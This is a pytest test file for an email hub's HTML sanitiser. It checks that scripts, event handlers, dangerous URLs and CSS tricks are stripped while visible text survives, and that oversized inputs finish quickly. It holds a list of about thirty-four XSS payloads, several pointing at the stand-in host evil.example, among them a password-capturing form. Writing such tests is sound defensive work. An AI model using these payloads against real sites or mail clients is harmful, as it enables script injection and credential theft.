"""Mail as it was designed: nothing active stays, the words do, and no input takes long."""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from hub import html

ACTIVE = {"script", "style", "iframe", "object", "embed", "form", "input", "base", "link", "meta"}
ACTIVE |= {"svg", "math", "video", "audio", "frame", "frameset", "template", "textarea", "button"}
ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='java\tscript:alert(1)'>",
    "<img src=`javascript:alert(1)`>",
    '<a href=" &#14; javascript:alert(1)">x</a>',
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=x&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<form action=//evil.example><input name=password></form>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(//evil.example/x)'>x</p>",
    "<p style='background:u\\72l(//evil.example/x)'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%'>x</p>",
    "<p style='color:red;/**/background-image:/**/url(//evil.example)'>x</p>",
    "<div style='behavior:url(x.htc)'>x</div>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<details ontoggle=alert(1) open>x</details>",
    "<body onload=alert(1)>x",
    "<img srcset='//evil.example/x 1x'>",
    "<table background=//evil.example/x><tr><td background=//evil.example/x>x</table>",
    "<a href=x ping=//evil.example>x</a>",
    "<object data=//evil.example/x></object><embed src=//evil.example/x>",
    "<img src=data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+>",
]


def active(text: str) -> list[str]:
    """What a browser would run or fetch by itself."""
    found = []
    tree = LexborHTMLParser(f"<body>{text}</body>")
    assert tree.body is not None
    for node in tree.body.traverse():
        if node.tag in ACTIVE:
            found.append(node.tag)
        for name, value in node.attributes.items():
            plain = re.sub(r"[\s\0-\x20]", "", value or "").lower()
            if name.startswith("on") or plain.startswith(("javascript:", "vbscript:", "data:text")):
                found.append(f"{name}={value}")
            if name in {"src", "srcset", "background", "ping"} and "evil" in plain:
                found.append(f"{name}={value}")
            if name == "style" and re.search(r"url|expression|position|\\|/\*|import", plain):
                found.append(f"{name}={value}")
    return found


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_active_survives(attack: str) -> None:
    assert active(html.sanitised(attack)) == []
    assert active(html.sanitised(f"<p>before{attack}after")) == []


@given(st.lists(st.sampled_from([*ATTACKS, "<p>", "</p>", "<", ">", "&lt;", "'", '"', "x"])))
def test_nothing_active_survives_in_any_mixture(parts: list[str]) -> None:
    assert active(html.sanitised("".join(parts))) == []


@pytest.mark.parametrize(
    "kept",
    [
        "<b>bold</b>",
        '<p dir="rtl">سلام</p>',
        '<p style="color:#f00;font-weight:bold">x</p>',
        '<td colspan="2">x</td>',
    ],
)
def test_what_only_changes_the_look_stays(kept: str) -> None:
    whole = f"<table><tbody><tr>{kept}</tr></tbody></table>" if kept.startswith("<td") else kept
    assert html.sanitised(whole) == whole


@pytest.mark.parametrize(
    "source",
    [
        "<p>visible <foo>words</foo></p>",
        "<blink>visible words</blink>",
        "<form>visible <button>words</button></form>",
        "<scr\0ipt>visible words</scr\0ipt>",
        "<div>visible words",
        "visible words",
        "<!-- hidden -->visible <b>words",
    ],
)
def test_visible_words_survive(source: str) -> None:
    text = re.sub(r"<[^>]*>", "", html.sanitised(source))
    assert " ".join(text.split()) == "visible words"


def test_pictures_of_the_mail_are_linked_and_remote_ones_wait() -> None:
    source = '<img src="cid:a@b"><img src="CID:other"><img src="https://far.example/x.png">'
    shown = html.sanitised(source, cid={"<A@b>": "/attachments/1/x.png?sig=1"})
    assert 'src="/attachments/1/x.png?sig=1"' in shown
    assert "far.example" not in shown
    assert "other" not in shown
    assert "far.example" in html.sanitised(source, images=True)


def test_links_open_outside_and_tell_nothing() -> None:
    shown = html.sanitised('<a href="https://far.example" target="_self">x</a>')
    assert 'rel="noopener noreferrer nofollow"' in shown
    assert 'target="_blank"' in shown


def test_the_policy_allows_no_script() -> None:
    policy = html.policy("https://hub.example")
    assert "script-src" not in policy
    assert "default-src 'none'" in policy
    assert "sandbox " in policy
    assert "allow-scripts" not in policy
    assert "allow-same-origin" not in policy


@pytest.mark.parametrize(
    "hostile",
    [
        "<div>" * 100_000 + "x",
        "<b><p>" * 900,
        "&" * 1_000_000,
        "&amp" * 250_000,
        "<a " + "b=c " * 200_000 + ">x",
        '<p style="' + "color:rgb(" * 50_000 + '">x',
        '<p style="' + "color:" + "a " * 100_000 + '">x',
        "<table>" * 20_000,
        "<" * 1_000_000,
        "x" * 3_000_000,
    ],
)
def test_no_input_takes_long(hostile: str) -> None:
    started = time.process_time()
    shown = html.page(hostile)
    assert time.process_time() - started < 2
    assert len(shown) < 8_000_000
